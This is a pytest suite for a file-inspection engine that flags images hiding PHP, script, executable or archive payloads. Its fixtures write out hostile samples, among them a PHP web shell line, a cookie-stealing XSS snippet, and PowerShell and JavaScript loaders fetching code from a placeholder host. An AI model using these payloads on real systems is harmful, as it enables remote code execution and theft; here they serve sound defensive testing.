"""The engine on generated files: exact codes and verdicts, limits at their edges."""

from __future__ import annotations

import io
import os
import random
import struct
import zlib
from pathlib import Path

import pytest
from jpeg_samples import HTML, PHP, insert_segments, pe_executable, photo, segment, zip_archive
from PIL import Image

from agent.inspect import engine, judge
from agent.inspect.base import Structure
from agent.inspect.engine import inspect_bytes, inspect_path
from agent.inspect.limits import MAX_FRAMES, PIXELS_REJECT, PIXELS_WARN, Limits
from agent.inspect.reader import Reader
from agent.model import Report, Severity, Verdict


def png_bytes(size: tuple[int, int] = (16, 12)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(out, "PNG")
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_with_raw_idat(row: bytes, *, width: int | None = None, height: int = 1) -> bytes:
    """A grayscale PNG whose IDAT is stored (level 0), so `row` appears verbatim."""
    width = width if width is not None else len(row)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    raw = b"".join(b"\x00" + row for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(raw, 0))
        + chunk(b"IEND", b"")
    )


def summary(report: Report) -> dict[str, Severity]:
    return {f.code: f.severity for f in report.findings}


# --- clean files ----------------------------------------------------------------------------


def test_clean_jpeg_and_png(tmp_path: Path) -> None:
    for name, data, kind in (("a.jpg", photo(), "jpeg"), ("b.png", png_bytes(), "png")):
        path = tmp_path / name
        path.write_bytes(data)
        report = inspect_path(path)
        assert (report.type, report.verdict, report.findings) == (kind, Verdict.CLEAN, ())
        assert report.size == len(data) and report.path == str(path)


def test_programs_under_their_own_names_are_not_our_business() -> None:
    assert inspect_bytes("setup.exe", pe_executable()).findings == ()
    assert inspect_bytes("files.zip", zip_archive()).verdict is Verdict.CLEAN


# --- trailers -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tail", "payload"),
    [(zip_archive(), "zip"), (pe_executable(), "pe"), (PHP, "php"), (HTML, "html")],
)
def test_image_with_dangerous_trailer_is_quarantined(tail: bytes, payload: str) -> None:
    for name, image, kind in (("p.jpg", photo(), "jpeg"), ("p.png", png_bytes(), "png")):
        report = inspect_bytes(name, image + tail)
        finding = next(f for f in report.findings if f.code == f"{kind}.trailing_data")
        assert finding.severity is Severity.HIGH and finding.payload == payload
        assert finding.offset == len(image)
        assert report.verdict is Verdict.QUARANTINE


@pytest.mark.parametrize(("padding", "expected"), [(63, None), (64, None), (65, Severity.INFO)])
def test_zero_padding_up_to_64_bytes_is_nothing_then_info(
    padding: int, expected: Severity | None
) -> None:
    reader = Reader.from_bytes(b"IMAGE" + bytes(padding))
    finding = judge.judge_gap(reader, "gif", 5, reader.size, [])
    assert (finding.severity if finding else None) is expected
    spaces = Reader.from_bytes(b"IMAGE" + b" \r\n" * 30)
    assert judge.judge_gap(spaces, "gif", 5, spaces.size, []) is not None  # 90 bytes: info


def test_high_entropy_trailer_is_flagged_low_entropy_is_not() -> None:
    image = photo()
    blob = random.Random(9).randbytes(4096)
    assert summary(inspect_bytes("p.jpg", image + blob)) == {"jpeg.trailing_data": Severity.MEDIUM}
    short = random.Random(9).randbytes(511)
    assert summary(inspect_bytes("p.jpg", image + short)) == {"jpeg.trailing_data": Severity.LOW}
    vendor = bytes(range(16)) * 2000  # structured vendor data, 4 bits/byte
    report = inspect_bytes("p.jpg", image + vendor)
    assert summary(report) == {"jpeg.trailing_data": Severity.LOW}
    assert report.verdict is Verdict.CLEAN


# --- content against name -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (pe_executable(), "content.executable"),
        (b"\x7fELF\x02\x01\x01" + bytes(120), "content.executable"),
        (zip_archive(), "content.archive"),
        (b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n", "content.document"),
        (
            b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(x)'\n",
            "content.imagemagick_script",
        ),
        (HTML, "content.script"),
        (PHP, "content.script"),
    ],
)
def test_image_named_non_image_is_quarantined(data: bytes, code: str) -> None:
    for name in ("photo.jpg", "scan.PNG", "ct.dcm", "logo.svg"):
        report = inspect_bytes(name, data)
        assert summary(report) == {code: Severity.HIGH}, name
        assert report.verdict is Verdict.QUARANTINE


def test_other_image_type_is_info_and_unknown_is_flagged() -> None:
    report = inspect_bytes("photo.jpg", png_bytes())
    assert summary(report) == {"content.other_image_type": Severity.INFO}
    assert report.verdict is Verdict.CLEAN and report.type == "png"
    text = inspect_bytes("photo.jpg", b"just some words, not a picture\n")
    assert summary(text) == {"content.not_an_image": Severity.MEDIUM}
    assert text.verdict is Verdict.FLAG
    assert inspect_bytes("photo.jpg", b"").findings == ()  # browser placeholder


def test_name_findings_come_first_with_content() -> None:
    report = inspect_bytes("photo.jpg.exe", pe_executable())
    assert summary(report) == {"name.double_extension": Severity.HIGH}
    report = inspect_bytes("invoice_\u202egpj.exe", pe_executable())
    assert report.findings[0].code == "name.bidi_control"


# --- payload markers ------------------------------------------------------------------------


def test_php_in_jpeg_comment_is_payload_in_metadata() -> None:
    data = insert_segments(photo(), segment(0xFE, PHP))
    report = inspect_bytes("p.jpg", data)
    finding = next(f for f in report.findings if f.code == "jpeg.payload_in_metadata")
    assert finding.payload == "php" and finding.severity is Severity.HIGH
    assert data[finding.offset : finding.offset + 5] == b"<?php"


def test_php_in_png_pixel_data_is_payload_in_image_data() -> None:
    data = png_with_raw_idat(b"abc<?php system($_GET['c']); ?>xyz")
    report = inspect_bytes("p.png", data)
    assert summary(report) == {"png.payload_in_image_data": Severity.HIGH}
    finding = report.findings[0]
    assert data[finding.offset : finding.offset + 5] == b"<?php"


def test_script_in_exif_text_is_found() -> None:
    image = Image.new("RGB", (8, 8))
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(document.cookie)</script>"  # ImageDescription
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    report = inspect_bytes("p.jpg", out.getvalue())
    assert summary(report) == {"jpeg.payload_in_metadata": Severity.HIGH}


# --- files on disk --------------------------------------------------------------------------


def test_symlink_is_not_followed(tmp_path: Path) -> None:
    target = tmp_path / "real.jpg"
    target.write_bytes(pe_executable())
    link = tmp_path / "link.jpg"
    link.symlink_to(target)
    report = inspect_path(link)
    assert report.type == "symlink"
    assert summary(report) == {"scan.not_inspected": Severity.INFO}


def test_fifo_and_directory_are_not_inspected(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.jpg"
    os.mkfifo(fifo)
    assert inspect_path(fifo).type == "special"  # and it did not block
    assert inspect_path(tmp_path).type == "special"


def test_missing_file_is_read_error(tmp_path: Path) -> None:
    report = inspect_path(tmp_path / "gone.jpg")
    assert summary(report) == {"scan.read_error": Severity.MEDIUM}
    assert report.verdict is Verdict.FLAG


def test_inspection_leaves_file_untouched(tmp_path: Path) -> None:
    path = tmp_path / "p.jpg"
    data = photo() + zip_archive()
    path.write_bytes(data)
    os.utime(path, (1_000_000_000, 1_100_000_000))  # atime older than mtime
    inspect_path(path)
    after = os.stat(path)
    assert path.read_bytes() == data
    assert after.st_mtime == 1_100_000_000
    assert after.st_atime == 1_000_000_000  # O_NOATIME (we own the file)


def test_display_name_is_what_gets_judged(tmp_path: Path) -> None:
    path = tmp_path / "item-0001.bin"
    path.write_bytes(pe_executable())
    report = inspect_path(path, display_name="photo.jpg")
    assert summary(report) == {"content.executable": Severity.HIGH}


# --- limits at their edges ------------------------------------------------------------------


def test_size_cap_at_limit_minus_one_limit_plus_one(tmp_path: Path) -> None:
    data = photo() + zip_archive()
    for delta, capped in ((1, False), (0, False), (-1, True)):
        limits = Limits(max_file_bytes=len(data) + delta)
        path = tmp_path / "p.jpg"
        path.write_bytes(data)
        for report in (inspect_path(path, limits), inspect_bytes("p.jpg", data, limits)):
            found = summary(report)
            assert ("resource.file_too_large" in found) is capped
            # Over the cap the last megabytes are still judged: the ZIP is found either way.
            assert found["jpeg.trailing_data"] is Severity.HIGH
            if capped:  # a picture that cannot be vouched for is at least flagged
                assert found["resource.file_too_large"] is Severity.MEDIUM


def test_over_the_cap_still_checks_name_and_header() -> None:
    report = inspect_bytes("photo.jpg", pe_executable(), Limits(max_file_bytes=10))
    assert summary(report) == {
        "resource.file_too_large": Severity.LOW,
        "content.executable": Severity.HIGH,
    }


def test_time_budget_spent_and_not_spent() -> None:
    data = photo() + zip_archive()
    spent = inspect_bytes("p.jpg", data, Limits(time_budget_seconds=0.0))
    assert "resource.time_budget" in summary(spent)
    assert spent.verdict is Verdict.FLAG
    ample = inspect_bytes("p.jpg", data, Limits(time_budget_seconds=60.0))
    assert "resource.time_budget" not in summary(ample)


@pytest.mark.parametrize(
    ("pixels", "expected"),
    [
        (PIXELS_WARN - 1, None),
        (PIXELS_WARN, None),
        (PIXELS_WARN + 1, "resource.pixels_over_warn"),
        (PIXELS_REJECT - 1, "resource.pixels_over_warn"),
        (PIXELS_REJECT, "resource.pixels_over_warn"),
        (PIXELS_REJECT + 1, "resource.pixels_over_reject"),
    ],
)
def test_pixel_thresholds(pixels: int, expected: str | None) -> None:
    found = engine._resource_findings(Structure(type="png", pixels=pixels), Limits(), [])
    assert [f.code for f in found] == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("frames", "flagged"), [(MAX_FRAMES - 1, False), (MAX_FRAMES, False), (MAX_FRAMES + 1, True)]
)
def test_frame_threshold(frames: int, flagged: bool) -> None:
    found = engine._resource_findings(Structure(type="gif", frames=frames), Limits(), [])
    assert bool(found) is flagged


def test_declared_huge_png_is_a_bomb() -> None:
    ihdr = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00"))
        + chunk(b"IEND", b"")
    )
    report = inspect_bytes("big.png", data)
    assert summary(report).get("resource.pixels_over_reject") is Severity.HIGH


def test_walker_crash_becomes_malformed(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken_walker(reader: object, limits: object) -> Structure:
        raise IndexError("walker bug")

    monkeypatch.setattr(engine, "_load_walker", lambda detected: broken_walker)
    report = inspect_bytes("p.jpg", photo())
    assert summary(report) == {"jpeg.malformed": Severity.LOW}
    assert "IndexError" in report.findings[0].detail


# --- suggestive markers in metadata, script and padded trailers ------------------------------

CLINIC_PROSE = (
    b"Allergy alert (penicillin) - see chart before treatment.",
    b"Post-op wound eval (day 3), healing well.",
    b"Post-op wound eval(day 3), healing well.",
    b"Answered the prompt(s) on the intake form.",
)


def png_with_texts(*texts: tuple[bytes, bytes]) -> bytes:
    """A real PNG with tEXt chunks (keyword, text) before IEND."""
    data = png_bytes()
    chunks = b"".join(chunk(b"tEXt", key + b"\x00" + text) for key, text in texts)
    return data[:-12] + chunks + data[-12:]


@pytest.mark.parametrize("prose", CLINIC_PROSE)
def test_clinic_prose_in_metadata_stays_clean(prose: bytes) -> None:
    jpeg = inspect_bytes("p.jpg", insert_segments(photo(), segment(0xFE, prose)))
    png = inspect_bytes("p.png", png_with_texts((b"Comment", prose)))
    for report in (jpeg, png):
        assert report.verdict is Verdict.CLEAN, report.findings
        assert all(f.severity <= Severity.LOW for f in report.findings)


@pytest.mark.parametrize(
    "code",
    [
        b"eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='))",
        b'*/=0;alert("Hello from Javascript!");',
        b"<img src=x onerror=alert(1)>",
    ],
)
def test_script_in_metadata_is_high(code: bytes) -> None:
    report = inspect_bytes("p.jpg", insert_segments(photo(), segment(0xFE, code)))
    assert summary(report) == {"jpeg.payload_in_metadata": Severity.HIGH}


def test_innocent_regions_cannot_crowd_out_the_payload() -> None:
    prose = [(b"Comment", CLINIC_PROSE[2])] * (judge.MAX_METADATA_FINDINGS + 4)
    report = inspect_bytes("p.png", png_with_texts(*prose, (b"shell", PHP)))
    found = [f for f in report.findings if f.code == "png.payload_in_metadata"]
    assert [f.severity for f in found if f.severity is Severity.HIGH] == [Severity.HIGH]
    assert len(found) == 1 + judge.MAX_WEAK_METADATA_FINDINGS
    assert report.verdict is Verdict.QUARANTINE


SCRIPT_TRAILERS = (
    (b"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n", "powershell"),
    (b"Start-Process -WindowStyle Hidden cmd.exe -ArgumentList '/c calc'\r\n", "powershell"),
    (b'CreateObject("WScript.Shell").Run "calc.exe", 0, False\r\n', "vbs"),
    (b"@echo off\r\nstart /b calc.exe\r\ndel %~f0\r\n", "batch"),
    (
        b"(function(){var d=document.createElement('script');d.src='//x.invalid/a.js';})();",
        "script",
    ),
)


@pytest.mark.parametrize(("script", "kind"), SCRIPT_TRAILERS)
def test_script_trailer_is_quarantined(script: bytes, kind: str) -> None:
    for name, image, fmt in (("p.jpg", photo(), "jpeg"), ("p.png", png_bytes(), "png")):
        report = inspect_bytes(name, image + script)
        finding = next(f for f in report.findings if f.code == f"{fmt}.trailing_data")
        assert (finding.severity, finding.payload) == (Severity.HIGH, kind)
        assert report.verdict is Verdict.QUARANTINE


@pytest.mark.parametrize("padding", [bytes(9), bytes(300), b"\r\n" * 100])
def test_payload_after_padding_is_quarantined_at_its_offset(padding: bytes) -> None:
    image = png_bytes()
    for tail, kind in ((pe_executable(), "pe"), (SCRIPT_TRAILERS[2][0], "vbs")):
        report = inspect_bytes("p.png", image + padding + tail)
        finding = next(f for f in report.findings if f.code == "png.trailing_data")
        assert (finding.severity, finding.payload) == (Severity.HIGH, kind)
        assert finding.offset == len(image) + len(padding)


def test_fat_macho_trailer_is_quarantined() -> None:
    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + struct.pack(">5I", 7, 3, 4096, 8192, 12)
    report = inspect_bytes("p.jpg", photo() + fat + random.Random(4).randbytes(600))
    assert summary(report) == {"jpeg.trailing_data": Severity.HIGH}
    assert report.findings[0].payload == "macho"


def test_prose_trailer_is_low() -> None:
    report = inspect_bytes("p.jpg", photo() + b"Set up the chair.\nStart the scanner.\n")
    assert summary(report) == {"jpeg.trailing_data": Severity.LOW}
